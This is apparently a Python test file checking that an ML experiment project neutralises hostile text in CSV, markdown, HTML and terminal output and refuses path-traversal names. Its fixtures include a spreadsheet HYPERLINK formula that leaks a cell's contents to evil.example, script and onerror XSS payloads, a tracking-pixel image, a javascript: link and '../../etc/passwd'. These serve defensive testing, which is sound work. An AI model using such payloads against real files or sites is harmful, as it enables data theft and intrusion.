"""Texts, class names and run names that mean something to a spreadsheet, a browser, a terminal or matplotlib."""

from __future__ import annotations

import csv
import html.parser

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agnews_exp.analyses.explanation.analysis import Article
from agnews_exp.analyses.explanation.linear import Term
from agnews_exp.analyses.explanation.words import Explanation, word_spans
from agnews_exp.analyses.findings import Column, Table, html_page, to_markdown, write_table
from agnews_exp.config.compose import compose_config, quoted
from agnews_exp.config.validation import check_config
from agnews_exp.core.errors import ConfigError
from agnews_exp.core.text import markdown_cell, spreadsheet_cell, visible, without_markup
from agnews_exp.data.corpus import TextRows
from agnews_exp.evaluation.predictions import Predictions
from agnews_exp.sweeps.results import JobRow, markdown, override_values, write_aggregate, write_jobs
from agnews_exp.sweeps.state import JobState
from agnews_exp.tracking.record_files import write_report

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SCRIPT = "<img src=x onerror=alert(1)><script>alert(1)</script>"
IMAGE = "![x](http://evil.example/pixel.png)"


def cells_of(path):
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def is_formula(cell):
    return cell[:1] in "=+-@\t\r\n＝＋－＠" and cell != "" and not cell.lstrip("+-").replace(".", "").isdigit()


@given(text=st.text(st.sampled_from("=+-@\t\r\n＝ a1.e'") | st.characters(), max_size=8))
def test_a_cell_is_a_number_or_begins_with_nothing_that_is_computed(text):
    cell = spreadsheet_cell(text)
    assert cell == text or cell == "'" + text
    if is_formula(cell):
        float(cell)


def job(name, words):
    result = {"fingerprint": "f", "group_fingerprint": "g", "seed": 1, "objective": 0.5, "primary": "val/macro_f1"}
    result |= {"name": name, "timings": {}, "metrics": {"val/macro_f1": 0.5}}
    state = JobState(0, words, status="finished", objective=0.5, run="0", reason=FORMULA)
    return JobRow(state, override_values(words), result)


def test_no_table_that_is_written_from_foreign_text_holds_a_formula(tmp_path):
    table = Table("hardest", "T", ("row_id", "text", "margin", "label"), ((1, FORMULA, -0.25, "@SUM(1)"),))
    write_table(table, tmp_path / "hardest.csv")
    rows = TextRows(["a", "b"], np.array([0, 1]), np.arange(2))
    write_report(tmp_path / "report.csv", rows, Predictions(np.array([0, 1])), (FORMULA, "-cmd"))
    jobs = [job(FORMULA, (f"name={FORMULA}",)), job("m", ("name=+1+1",))]
    write_jobs(tmp_path / "jobs.csv", [jobs[0].state], jobs[:1])
    write_aggregate(tmp_path / "aggregate.csv", jobs)
    for path in tmp_path.glob("*.csv"):
        found = cells_of(path)
        assert any(FORMULA in cell for cell in found), path.name
        assert not [cell for cell in found if is_formula(cell)], path.name
    assert "-0.25" in cells_of(tmp_path / "hardest.csv")


def explained(text):
    return Explanation("occlusion", text, 0, np.full(len(word_spans(text)), 0.5))


class Tags(html.parser.HTMLParser):
    """Collects the tags that a browser would see."""

    def __init__(self):
        super().__init__()
        self.found = set()

    def handle_starttag(self, tag, attrs):
        self.found.add(tag)
        assert not any(name.startswith("on") for name, _ in attrs)


def tags_of(text):
    parser = Tags()
    parser.feed(text)
    return parser.found


def rendered(text):
    """Render as the most trusting viewer would: with HTML."""
    return tags_of(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))


@pytest.mark.parametrize(
    "nasty", [SCRIPT, IMAGE, "a\n<script>", "a|b|c|d", "</td><script>", "<!-- x", "[a](javascript:x)"]
)
def test_markup_in_names_is_shown_in_every_markdown_table(nasty):
    article = Article(1, nasty, nasty, 0.5, nasty, [explained(nasty)])
    table = Table("t", nasty, (nasty, Column("n", width=20)), ((nasty, nasty),), note=nasty)
    tables = [
        to_markdown([table]),
        to_markdown(article.blocks()),
        markdown([job("m", (f"name={nasty}",)), job("m", ("name=b",))]),
    ]
    known = {"table", "thead", "tbody", "tr", "th", "td", "h2", "p", "code", "em", "strong"}
    for table in tables:
        assert rendered(table) <= known, table
        lines = [line for line in table.splitlines() if line.startswith("| ")]
        widths = {line.replace("\\|", "").count("|") for line in lines}
        assert len(widths) <= 1, table


@given(text=st.text(st.sampled_from("<>[]()!|\\/a \n`&;") | st.characters(), max_size=20))
@settings(deadline=None)
def test_a_cell_of_any_text_holds_no_tag_and_stays_one_cell(text):
    assert not rendered(without_markup(text)) & {"img", "script", "a"}
    cell = markdown_cell(text)
    assert "\n" not in cell
    assert markdown_cell(cell) == cell


@pytest.mark.parametrize("nasty", [SCRIPT, '"><script>', "</title><script>", "a <!-- b", "<!--", "' onload='x"])
def test_an_explanation_page_holds_no_tag_of_the_texts(nasty):
    article = Article(1, nasty, f"{nasty}2", 0.5, "softmax", [explained(nasty)], [Term(nasty, nasty, 1.0)])
    page = html_page(nasty, [*article.blocks(), Table("t", nasty, (nasty,), ((nasty,),))])
    known = "html head meta title style body h1 h3 p b div small table thead tbody tr th td button"
    assert tags_of(page) <= set(known.split())
    assert "<!--" not in page
    assert "default-src 'none'" in page


@pytest.mark.parametrize(
    ("key", "value"),
    [
        *[("name", value) for value in ("\x1b[2J", "a\nb", "a\0b", "x" * 10_000, "")],
        *[("sweep.name", value) for value in ("../../x", "a/b", "a\nb", "..")],
        *[("tags.a", value) for value in ("\x1b[31m", "x" * 10_000)],
        ("tracking.experiment", "a\rb"),
        ("model.name", "\x1b[2J"),
    ],
)
def test_names_that_steer_terminals_or_leave_folders_are_refused(key, value):
    with pytest.raises(ConfigError, match=key.replace(".", r"\.")) as caught:
        check_config(compose_config(["data=sample", f"{key}={quoted(value)}"]))
    assert not set("\x1b\r\0") & set(str(caught.value))


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "..", "a b/ c", "=1+1", SCRIPT])
def test_a_run_name_is_a_label_and_never_a_path(name):
    """The folder of a run is made of the time and a random word; its name goes into result.json and MLflow only."""
    config = compose_config(["data=sample", f"name={quoted(name)}"])
    assert check_config(config).run.name == name


@given(text=st.text())
def test_what_is_shown_on_a_terminal_cannot_steer_it(text):
    assert not set(visible(text)) & {chr(c) for c in (*range(9), *range(11, 32), *range(127, 160), 0x202E)}
